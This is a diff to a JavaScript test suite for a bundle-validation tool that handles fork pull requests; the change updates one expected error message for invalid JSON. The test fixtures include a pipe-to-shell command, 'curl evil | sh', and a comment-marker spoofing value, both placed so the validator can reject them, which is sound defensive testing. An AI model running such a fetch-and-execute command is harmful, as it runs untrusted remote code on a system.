@@ -289,7 +289,7 @@ describe('slipway report --bundle (fork PRs through workflow_run)', () => {
       ['marker spoofing model name', bundle('marker', { pr: { model: 'credit-risk -->' }, evaluation: (e) => Object.assign(e, { model: 'credit-risk --> <!-- slipway:report model=other' }) }), /\/model: must match pattern/],
       ['model mismatch', bundle('mismatch', { pr: { model: 'other' } }), /pr\.json names model 'other' but evaluation\.json is about 'credit-risk'/],
       ['extra file', bundle('extra', { files: { 'run.sh': 'curl evil | sh' } }), /unexpected entries "run\.sh"/],
-      ['not JSON', bundle('json', { files: { 'validation.json': '{"ok": tru' } }), /bundle validation\.json: not valid JSON/],
+      ['not JSON', bundle('json', { files: { 'validation.json': '{"ok": tru' } }), /bundle validation\.json:1:11: not valid JSON: the text ends before the JSON value does/],
       ['deep nesting', bundle('deep', { files: { 'card.json': '['.repeat(100000) + ']'.repeat(100000) } }), /card\.json: (not valid JSON|\(root\): must be object)/],
     ];
     const linked = bundle('symlink');
